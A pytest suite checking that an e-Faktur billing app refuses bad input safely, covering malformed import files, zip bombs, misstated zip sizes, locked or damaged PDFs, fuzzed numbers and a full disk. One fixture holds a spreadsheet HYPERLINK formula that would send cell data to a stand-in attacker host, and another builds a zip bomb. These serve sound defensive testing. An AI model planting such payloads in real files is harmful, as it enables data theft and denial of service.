"""Whatever file or text is fed in, the user gets a plain message and the book is unchanged.

Other bad input is tested beside its feature: import problems row by row and empty, cp1252
or fake files (test_billing_import); traversal, nested and damaged entries of an upload zip
(test_upload); books that are not SQLite, newer, read-only or locked (test_schema,
test_backups, test_window_backups, test_window_start); spreadsheet exports that neutralise
formulas (test_billing_import).
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from peewee import OperationalError
from pypdf import PdfReader, PdfWriter

from app import billing_actions, efaktur_upload, parties
from app.billing_import import COLUMNS, import_file, plan_import
from app.book import files_folder
from app.efaktur_no import EfakturNo, parse_any, parse_faktur, parse_number
from app.errors import Refused
from app.models import Billing, db
from app.ranges import add_range, read_range
from tests.pdfs import faktur_pdf, make_zip
from tests.test_billing_import import row, write_csv
from tests.test_upload import SELLER, SINAR, guide_file, named

TABLES = ("billing", "billing_line", "customer", "efaktur_number", "efaktur_file", "event")


def snapshot() -> list:
    return [db.execute_sql(f"SELECT * FROM {t} ORDER BY id").fetchall() for t in TABLES]


def refused_and_unchanged(action, says: str) -> None:
    before = snapshot()
    with pytest.raises(Refused) as raised:
        action()
    plan = getattr(raised.value, "plan", None)  # an import names each problem of the file
    shown = [str(raised.value)] + [str(p) for p in (plan.problems if plan else [])]
    assert any(says in line for line in shown), shown
    assert snapshot() == before


# -- import files -----------------------------------------------------------------------


def test_an_empty_or_blank_import_file_says_so(book, tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    refused_and_unchanged(lambda: import_file(tmp_path / "empty.csv"), "is empty")
    (tmp_path / "header.csv").write_text(",".join(COLUMNS) + "\n", encoding="utf-8")
    refused_and_unchanged(
        lambda: import_file(tmp_path / "header.csv"), "there are no rows under the header"
    )


def test_a_binary_file_named_csv_or_xlsx_is_not_read_as_billings(book, tmp_path):
    noise = bytes(range(256)) * 64
    (tmp_path / "photo.csv").write_bytes(noise)
    refused_and_unchanged(lambda: import_file(tmp_path / "photo.csv"), "is not a text file")
    (tmp_path / "photo.xlsx").write_bytes(noise)
    refused_and_unchanged(lambda: import_file(tmp_path / "photo.xlsx"), "is not an Excel workbook")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_100_mb_import_file_is_refused_before_it_is_read(book, tmp_path, suffix):
    huge = tmp_path / f"huge{suffix}"
    with huge.open("wb") as out:  # sparse: 100 MB on paper, nothing on the disk
        out.truncate(100 * 1024 * 1024)
    refused_and_unchanged(lambda: import_file(huge), "is 100 MB; an import file is at most 20 MB")


def test_a_csv_in_another_encoding_says_how_to_save_it(book, tmp_path):
    text = ",".join(COLUMNS) + "\nINV-É,2026-11-02\n"
    (tmp_path / "utf16.csv").write_bytes(text.encode("utf-16"))
    refused_and_unchanged(
        lambda: import_file(tmp_path / "utf16.csv"), "is saved as Unicode text (UTF-16)"
    )
    (tmp_path / "ansi.csv").write_bytes(text.encode("cp1252"))
    refused_and_unchanged(lambda: import_file(tmp_path / "ansi.csv"), "CSV UTF-8")


def test_formulas_in_a_csv_are_named_and_nothing_is_imported(book, tmp_path):
    path = write_csv(
        tmp_path / "formulas.csv",
        [
            row(customer_name='=HYPERLINK("http://evil.example/?"&A1,"PT Klik")'),
            row(invoice_no="INV-B", quantity="=2*3"),
        ],
    )
    assert [str(p) for p in plan_import(path).problems] == [
        'row 2, customer_name: “=HYPERLINK("http://evil.example/?"&A1,"…” is a spreadsheet '
        "formula; put the value itself in the cell.",
        "row 3, quantity: “=2*3” is a spreadsheet formula; put the value itself in the cell.",
    ]
    refused_and_unchanged(lambda: import_file(path), "nothing was imported")


def test_duplicate_invoice_numbers_that_disagree_are_named(book, tmp_path):
    path = write_csv(
        tmp_path / "twice.csv",
        [row(), row(customer_name="PT Lain", customer_npwp="")],
    )
    problems = [str(p) for p in plan_import(path).problems]
    assert problems and all("row 3" in p and "every line of one billing" in p for p in problems)
    refused_and_unchanged(lambda: import_file(path), "nothing was imported")


def test_an_xlsx_formula_without_a_saved_value_is_not_a_value(book, tmp_path):
    sheet = Workbook()
    sheet.active.append(list(COLUMNS))
    cells = row()
    cells["quantity"] = "=2*3"  # written by a program, never calculated by Excel
    sheet.active.append([cells.get(c, "") for c in COLUMNS])
    sheet.save(tmp_path / "uncalculated.xlsx")
    assert [str(p) for p in plan_import(tmp_path / "uncalculated.xlsx").problems] == [
        "row 2, quantity: is empty."
    ]


# -- upload zips and PDFs ---------------------------------------------------------------


def offered_reasons(tmp_path: Path, archive: bytes) -> list[str]:
    path = tmp_path / "upload.zip"
    path.write_bytes(archive)
    return [m.reason for m in efaktur_upload.match_offered(efaktur_upload.read_offered([path]))]


def test_a_zip_bomb_is_not_unpacked(demo, tmp_path):
    name, pdf = guide_file()
    reasons = offered_reasons(
        tmp_path, make_zip({"bomb.pdf": b"%PDF-1.4\n" + bytes(40 * 2**20), name: pdf})
    )
    assert reasons == [efaktur_upload.BOMB, ""]


def test_an_entry_that_lies_about_its_size_is_not_taken(demo, tmp_path):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("big.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 2000)
    lying = bytearray(out.getvalue())
    at = lying.rindex(b"PK\x01\x02") + 24  # the central directory's uncompressed size
    lying[at : at + 4] = (10).to_bytes(4, "little")
    reasons = offered_reasons(tmp_path, bytes(lying))
    assert reasons == ["cannot be read from the zip: it is damaged"]


def test_a_zip_of_thousands_of_files_is_refused_whole(demo, tmp_path):
    count = efaktur_upload.MAX_ZIP_ENTRIES + 1
    archive = make_zip({f"f{i}.pdf": b"%PDF-1.4" for i in range(count)})
    assert offered_reasons(tmp_path, archive) == [
        f"holds {count:,} files; at most {efaktur_upload.MAX_ZIP_ENTRIES:,} at once"
    ]
    refused_and_unchanged(
        lambda: efaktur_upload.attach_matched(
            efaktur_upload.match_offered(efaktur_upload.read_offered([tmp_path / "upload.zip"])),
            files_folder(demo),
        ),
        "nothing was attached",
    )


def test_a_password_protected_faktur_is_named_and_not_attached(demo, tmp_path):
    name, pdf = guide_file()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password="rahasia", owner_password="rahasia")
    locked = io.BytesIO()
    writer.write(locked)
    path = tmp_path / name
    path.write_bytes(locked.getvalue())
    matches = efaktur_upload.match_offered(efaktur_upload.read_offered([path]))
    assert [m.reason for m in matches] == [
        "the PDF is locked with a password; download it again from e-Faktur"
    ]
    refused_and_unchanged(
        lambda: efaktur_upload.attach_matched(matches, files_folder(demo)), "nothing was attached"
    )


def test_damaged_pdfs_of_every_kind_are_named_not_crashed_on(demo, tmp_path):
    pdf = faktur_pdf("010.000-26.12345619")
    damaged = {
        named("0100002612345619", SINAR, SELLER, f"cut{i}"): pdf[:i]
        for i in (8, 100, len(pdf) // 2, len(pdf) - 20)
    }
    damaged["header-only.pdf"] = b"%PDF-1.7\n%%EOF"
    damaged["garbage.pdf"] = b"%PDF-" + bytes(range(256)) * 8
    reasons = offered_reasons(tmp_path, make_zip(damaged))
    assert all(r.startswith(("damaged PDF", "no faktur number")) for r in reasons), reasons


# -- pasted numbers ---------------------------------------------------------------------


@settings(max_examples=300)
@given(st.text() | st.from_regex(r"[0-9 .\-]{0,30}", fullmatch=True))
def test_pasted_text_of_any_length_and_alphabet_is_a_number_or_a_plain_refusal(text):
    for reader in (parse_any, parse_number, parse_faktur):
        try:
            number = reader(text)
        except Refused as refused:
            assert refused.message and "Traceback" not in refused.message
        else:
            number = getattr(number, "number", number)  # the faktur form holds the number
            assert isinstance(number, EfakturNo)
            assert len(re.sub(r"\D", "", text)) in (13, 16)


# -- the disk fills up in the middle of a long change -------------------------------------


def said_the_disk_is_full(error: BaseException) -> bool:
    # SQLite rolls back on its own when the disk fills; peewee's own rollback then fails
    # and carries the first error as its context (ui.launch.known_trouble reads the chain)
    chain = []
    while error is not None:
        chain.append(str(error))
        error = error.__cause__ or error.__context__
    return any("full" in text for text in chain)


def fill_the_disk() -> None:
    pages = db.execute_sql("PRAGMA page_count").fetchone()[0]
    db.execute_sql(f"PRAGMA max_page_count = {pages}")


def make_room() -> None:
    db.execute_sql("PRAGMA max_page_count = 1073741823")


def test_a_full_disk_during_an_import_leaves_no_billing_behind(book, tmp_path):
    path = write_csv(
        tmp_path / "many.csv",
        [row(invoice_no=f"INV-{i:05d}", item_name="Jasa " * 50) for i in range(2000)],
    )
    before = snapshot()
    fill_the_disk()
    try:
        with pytest.raises(OperationalError) as raised:
            import_file(path)
    finally:
        make_room()
    assert said_the_disk_is_full(raised.value)
    assert snapshot() == before
    assert import_file(path).billings == 2000  # with room again, the same file goes in whole


def test_a_full_disk_during_a_bulk_issue_issues_none(book, tmp_path):
    parties.set_company("PT Penjual Jaya", SELLER, "Jl. Merdeka 1, Jakarta")
    add_range(read_range("000-26.00000001", "000-26.00003000", None, date(2026, 1, 2), ""))
    rows = [row(invoice_no=f"INV-{i:05d}") for i in range(2000)]
    import_file(write_csv(tmp_path / "drafts.csv", rows))
    drafts = [b.id for b in Billing.select(Billing.id)]
    before = snapshot()
    fill_the_disk()
    try:
        with pytest.raises(OperationalError) as raised:
            billing_actions.issue_billings(drafts)
    finally:
        make_room()
    assert said_the_disk_is_full(raised.value)
    assert snapshot() == before
    assert len(billing_actions.issue_billings(drafts)) == 2000  # with room, all at once
